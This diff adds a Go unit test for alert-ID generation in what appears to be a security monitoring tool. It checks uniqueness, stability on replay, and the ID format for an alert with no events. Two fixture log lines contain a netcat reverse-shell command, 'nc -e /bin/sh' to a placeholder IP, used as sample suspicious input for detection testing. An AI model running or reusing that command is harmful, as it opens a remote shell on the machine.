@@ -0,0 +1,43 @@
+package model
+
+import (
+	"testing"
+	"time"
+)
+
+func processAlert(pid, raw string, at time.Time) Alert {
+	return Alert{
+		RuleName:  "SuspiciousCommand",
+		Timestamp: at,
+		Source:    "127.0.0.1",
+		Events: []Event{{
+			Timestamp: at,
+			EventType: "Process_Executed",
+			Source:    "127.0.0.1",
+			Metadata:  map[string]string{"pid": pid},
+			Input:     "execsnoop.log",
+			Raw:       raw,
+		}},
+	}
+}
+
+func TestAlertID(t *testing.T) {
+	at := time.Date(2026, time.June, 19, 12, 0, 0, 0, time.UTC)
+	first := processAlert("900", "2026-06-19T12:00:00Z 0 nc 900 1 0 nc -e /bin/sh 203.0.113.7 4444", at)
+	second := processAlert("901", "2026-06-19T12:00:00.5Z 0 nc 901 1 0 nc -e /bin/sh 203.0.113.8 4444", at.Add(500*time.Millisecond))
+
+	if first.ID() == second.ID() {
+		t.Fatalf("got the same ID %q for two processes in one second, want them apart", first.ID())
+	}
+
+	replayed := processAlert("900", first.Events[0].Raw, at)
+	replayed.Metadata = map[string]string{"asset_owner": "changed since"}
+	if replayed.ID() != first.ID() {
+		t.Fatalf("got ID %q for a replayed alert, want %q", replayed.ID(), first.ID())
+	}
+
+	bare := Alert{RuleName: "SuspiciousCommand", Timestamp: at, Source: "127.0.0.1"}
+	if want := "SuspiciousCommand-1781870400-127.0.0.1"; bare.ID() != want {
+		t.Fatalf("got ID %q for an alert without events, want %q", bare.ID(), want)
+	}
+}